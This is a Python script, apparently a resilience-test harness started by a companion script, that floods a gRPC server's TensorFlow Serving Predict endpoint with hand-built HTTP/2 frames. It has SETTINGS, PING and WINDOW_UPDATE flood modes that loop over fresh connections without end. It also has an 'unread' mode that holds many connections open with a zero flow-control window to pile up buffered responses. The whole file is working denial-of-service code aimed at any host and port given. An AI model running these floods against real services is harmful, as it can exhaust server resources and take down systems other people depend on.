"""Floods of a gRPC server with hand-made HTTP/2: `python http2_floods.py KIND HOST:PORT`, until it is ended.

`SETTINGS`, `PING` and `WINDOW_UPDATE` send so many frames on each connection, one connection after the other. `unread`
opens connections with calls whose answers it never reads; the message of the calls comes from standard input. Prints a
line for each connection. `serving_floods.py` starts it; it needs nothing but Python.
"""

import argparse
import contextlib
import socket
import sys
import threading
import time


def frame(kind, flags, stream, payload=b""):
    """A frame of HTTP/2, see RFC 9113, section 4.1."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


FRAMES = {
    "SETTINGS": frame(4, 0, 0),
    "PING": frame(6, 0, 0, b"pingping"),
    "WINDOW_UPDATE": frame(8, 0, 0, (1).to_bytes(4, "big")),
}
OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NO_WINDOW = frame(4, 0, 0, b"\0\4" + bytes(4))
"""Settings that let the server send nothing on a stream."""

PREDICT = "/tensorflow.serving.PredictionService/Predict"
DATA = 16384
"""The most bytes of a frame."""


def header(name, value):
    """A header as HPACK has it, neither indexed nor compressed, see RFC 7541, section 6.2.2."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def call(stream, message):
    """The frames of a call with one message."""
    names = {":method": "POST", ":scheme": "http", ":path": PREDICT, ":authority": "here", "te": "trailers"}
    names["content-type"] = "application/grpc"
    block = b"".join(header(*one) for one in names.items())
    body = b"\0" + len(message).to_bytes(4, "big") + message
    parts = [body[start : start + DATA] for start in range(0, len(body), DATA)]
    data = [frame(0, int(part is parts[-1]), stream, part) for part in parts]
    return frame(1, 4, stream, block) + b"".join(data)


def connect(address):
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=30)


def flood(kind, address, frames):
    content = OPENING + frame(4, 0, 0) + frames * FRAMES[kind]
    while True:
        try:
            with connect(address) as connection:
                print(kind, flush=True)
                connection.sendall(content)
        except ConnectionRefusedError:
            time.sleep(0.01)  # the server has ended
        except OSError:
            pass  # closed by the server: the next one


def leave_unread(address, connections, calls, message):
    held = []
    for _ in range(connections):
        with contextlib.suppress(OSError):
            held.append(connect(address))
            streams = range(1, 2 * calls, 2)
            held[-1].sendall(OPENING + NO_WINDOW + b"".join(call(stream, message) for stream in streams))
        print("unread", flush=True)
    threading.Event().wait()


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("kind", choices=[*FRAMES, "unread"])
    parser.add_argument("address", metavar="HOST:PORT")
    parser.add_argument("--frames", type=int, default=20_000, help="frames of a connection (default: %(default)s)")
    parser.add_argument("--connections", type=int, default=50, help="unread: connections (default: %(default)s)")
    parser.add_argument("--calls", type=int, default=128, help="unread: calls of a connection (default: %(default)s)")
    options = parser.parse_args()
    if options.kind == "unread":
        leave_unread(options.address, options.connections, options.calls, sys.stdin.buffer.read())
    flood(options.kind, options.address, options.frames)


if __name__ == "__main__":
    main()
